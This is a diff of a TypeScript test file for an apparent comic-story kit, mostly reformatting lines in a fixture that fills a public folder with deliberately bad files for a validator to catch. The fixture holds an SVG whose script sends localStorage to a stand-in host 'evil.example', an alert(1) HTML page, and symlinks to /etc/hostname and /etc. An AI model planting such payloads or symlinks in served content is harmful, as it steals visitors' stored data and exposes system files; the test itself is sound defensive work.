@@ -17,7 +17,8 @@ const scratch = mkdtempSync(join(tmpdir(), 'komik-saku-served-'));
 afterAll(() => rmSync(scratch, { recursive: true, force: true }));
 
 const sampleStory = readFileSync(join(root, 'stories', 'sample', 'story.json'), 'utf8');
-const found = (problems: { file: string; code: string; message: string }[]) => problems.map((problem) => `${problem.file} [${problem.code}] ${problem.message}`);
+const found = (problems: { file: string; code: string; message: string }[]) =>
+  problems.map((problem) => `${problem.file} [${problem.code}] ${problem.message}`);
 
 /** A public/ folder as an author might leave it: good art next to every kind of bad file. */
 function publicFolder(name: string): string {
@@ -25,7 +26,10 @@ function publicFolder(name: string): string {
   mkdirSync(join(dir, 'panels', 'tale'), { recursive: true });
   cpSync(join(root, 'public', 'panels', 'sample', 'warung-1.svg'), join(dir, 'panels', 'tale', 'good.svg'));
   writeFileSync(join(dir, 'panels', 'CREDITS.md'), 'Drawn by the kit.');
-  writeFileSync(join(dir, 'panels', 'tale', 'evil.svg'), '<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></svg>');
+  writeFileSync(
+    join(dir, 'panels', 'tale', 'evil.svg'),
+    '<svg xmlns="http://www.w3.org/2000/svg">\n<script>fetch("//evil.example/?" + JSON.stringify(localStorage))</script></svg>',
+  );
   writeFileSync(join(dir, 'panels', 'tale', 'page.html'), '<script>alert(1)</script>');
   symlinkSync('/etc/hostname', join(dir, 'panels', 'tale', 'hostname.svg'));
   symlinkSync('/etc', join(dir, 'panels', 'system'));
@@ -98,7 +102,7 @@ describe('story folders (stories/)', () => {
     expect(storiesProblems(join(root, 'stories'), 'stories')).toEqual([]);
   });
 
-  it('lists a story whose ID is not its folder as broken (it would read and overwrite that story\'s progress)', () => {
+  it("lists a story whose ID is not its folder as broken (it would read and overwrite that story's progress)", () => {
     const dir = join(scratch, 'stories-b');
     mkdirSync(join(dir, 'copy'), { recursive: true });
     writeFileSync(join(dir, 'copy', 'story.json'), sampleStory);
